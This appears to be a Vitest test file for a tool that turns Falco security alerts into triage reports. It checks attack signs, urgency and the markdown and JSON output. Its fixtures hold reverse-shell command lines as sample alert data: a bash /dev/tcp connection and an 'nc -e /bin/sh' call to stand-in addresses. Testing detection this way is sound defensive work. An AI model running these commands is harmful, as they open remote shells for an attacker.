import { describe, expect, it } from 'vitest'
import { loadKnowledge } from '../../src/knowledge/load.ts'
import type { Knowledge } from '../../src/knowledge/playbook.ts'
import { parsePlaybook } from '../../src/knowledge/parse.ts'
import type { Report } from '../../src/model/report.ts'
import { buildReport } from '../../src/report/build.ts'
import { renderMarkdown } from '../../src/render/markdown.ts'
import { reportJson } from '../../src/render/json.ts'
import { headlineText } from '../../src/render/headline.ts'
import { alertText, type AlertBody } from '../support/alerts.ts'
import { reportInput } from '../support/events.ts'
import { GOOD_PLAYBOOK } from '../support/playbooks.ts'
import { plain } from './parts.ts'

const builtIn = loadKnowledge(null)

/** A reverse shell out of a web server, as Falco reports it. */
const REVERSE_SHELL: Partial<AlertBody> = {
  rule: 'System procs network activity',
  output_fields: {
    'container.id': 'c0ffee123456',
    'k8s.ns.name': 'blog',
    'k8s.pod.name': 'wordpress-6d4cf56db6-x7k2p',
    'proc.name': 'bash',
    'proc.pname': 'apache2',
    'proc.cmdline': 'bash -c exec 3<>/dev/tcp/198.51.100.7/4444',
    'proc.exepath': '/usr/bin/bash',
    'fd.name': '10.0.0.1:4040->198.51.100.7:4444',
    'evt.type': 'connect',
  },
}

function report(bodies: readonly Partial<AlertBody>[], knowledge: Knowledge = builtIn): Report {
  return buildReport(reportInput(bodies.map((body) => alertText(body))), knowledge)
}

function shown({ assessment }: Report) {
  return assessment.signs.map(({ kind, outcome, text }) => `${outcome} ${kind}: ${plain(text)}`)
}

describe('the signs of a report', () => {
  it('are the conditions of the playbook, decided on the alert', () => {
    const { signs, escalateIf, benignCauses } = report([REVERSE_SHELL]).assessment
    const [first] = signs
    expect(first).toMatchObject({
      kind: 'attack',
      outcome: 'met',
      likely: 'reverse shell',
      evidence: [
        { field: 'fd.name', value: '198.51.100.7' },
        { field: 'proc.name', value: 'bash' },
      ],
    })
    expect(
      signs.filter(({ kind, outcome }) => kind === 'attack' && outcome === 'met'),
    ).toHaveLength(3)
    expect(escalateIf).toEqual([])
    // Each of the three benign causes is contradicted by a field.
    expect(benignCauses).toEqual([])
  })

  it('name the field that is missing when they are not known', () => {
    const { signs } = report([
      { ...REVERSE_SHELL, output_fields: { 'proc.name': 'bash' } },
    ]).assessment
    const unknown = signs.filter(({ outcome }) => outcome === 'unknown')
    expect(unknown.length).toBeGreaterThan(4)
    for (const { missing, evidence } of unknown) {
      expect(missing.length).toBeGreaterThan(0)
      expect(evidence).toEqual([])
    }
  })

  it('come with what the source calls likely, whatever the rule', () => {
    const { signs, urgency } = report([
      {
        rule: 'Terminal shell in container',
        output_fields: {
          'proc.name': 'sh',
          'proc.cmdline': 'sh -c nc -e /bin/sh 203.0.113.9 4444',
        },
      },
    ]).assessment
    expect(signs[0]).toMatchObject({ outcome: 'met', likely: 'reverse shell' })
    expect(urgency).toMatchObject({
      level: 'now',
      verdict: 'Treat as critical: likely reverse shell',
    })
  })

  it('are met by one of the events of an alert, and benign only in all of them', () => {
    const quiet = {
      ...REVERSE_SHELL,
      output_fields: {
        ...REVERSE_SHELL.output_fields,
        'fd.name': '10.0.0.1:4040->10.0.0.9:5432',
        'proc.cmdline': "bash -c '</dev/tcp/db/5432'",
      },
    }
    const both = report([quiet, REVERSE_SHELL])
    expect(both.assessment.urgency.level).toBe('now')
    const waits = 'met benign: A start or health script waits for a port'
    expect(shown(report([quiet])).some((line) => line.startsWith(waits))).toBe(true)
    expect(shown(both).some((line) => line.startsWith(waits))).toBe(false)
  })

  it('leave what only the world can answer as a question', () => {
    const { escalateIf, closeIf } = report([
      {
        rule: 'Attach/Exec Pod',
        source: 'k8s_audit',
        output_fields: { 'ka.user.name': 'alice', 'ka.uri.param[command]': 'ls' },
      },
    ]).assessment
    expect(escalateIf.map(plain)).toContain('The user denies it, or never did this before.')
    expect(closeIf).toHaveLength(1)
  })

  it('are read out of a playbook of yours', () => {
    const text = GOOD_PLAYBOOK.replace(
      /escalateif:\n(?: .*\n)+/,
      `escalateif:
  - text: "A person is logged in."
    test: { fact: login, equals: person }
    likely: hands on the keyboard
`,
    )
    const { playbook, problems } = parsePlaybook('mine', text)
    expect(problems).toEqual([])
    if (playbook === null) throw new Error('no playbook')
    const mine: Knowledge = { playbookFor: () => ({ kind: 'playbook', playbook }) }
    const { signs } = report([{ output_fields: { 'user.loginuid': 1000 } }], mine).assessment
    expect(signs).toMatchObject([{ outcome: 'met', likely: 'hands on the keyboard' }])
  })
})

describe('the signs in a message', () => {
  const found = report([REVERSE_SHELL])

  it('stand first in the assessment, with their values, and as conditions of nothing', () => {
    const markdown = renderMarkdown(found)
    const assessment = markdown.slice(
      markdown.indexOf('## Assessment'),
      markdown.indexOf('## Investigation'),
    )
    expect(assessment).toMatch(/^## Assessment\n\n\*\*Signs of an attack:\*\*\n/)
    expect(assessment).toContain(
      'A shell is connected to a public address. (`fd.name`: `198.51.100.7`; `proc.name`: `bash`)',
    )
    expect(assessment).toContain('Look up `proc.is_exe_upper_layer`')
    expect(assessment).not.toContain('**Benign causes:**')
    const escalate = /\*\*Escalate if:\*\*([^]*?)\*\*/.exec(assessment)?.[1] ?? ''
    expect(escalate).not.toContain('The command gives a shell')
  })

  it('are the first words of its first line', () => {
    expect(headlineText(found)).toBe(
      'Treat as critical: likely reverse shell (Falco: Notice). System procs network activity in blog/wordpress',
    )
    expect(headlineText(report([{}]))).toBe('Notice: Terminal shell in container in shop/web')
  })

  it('are data in JSON', () => {
    const { assessment } = reportJson(found)
    expect(assessment.signs[0]).toEqual({
      kind: 'attack',
      text: 'A shell is connected to a public address.',
      outcome: 'met',
      field: 'fd.name',
      value: '198.51.100.7',
    })
    expect(assessment.signs.find(({ outcome }) => outcome === 'unknown')).toMatchObject({
      field: 'proc.is_exe_upper_layer',
      value: null,
    })
    expect(assessment.urgency).toEqual({
      level: 'now',
      because: [
        'A shell is connected to a public address.',
        'The port is one that tools for reverse shells use.',
        'An ancestor is a web server, a database or an application runtime.',
      ],
    })
  })
})
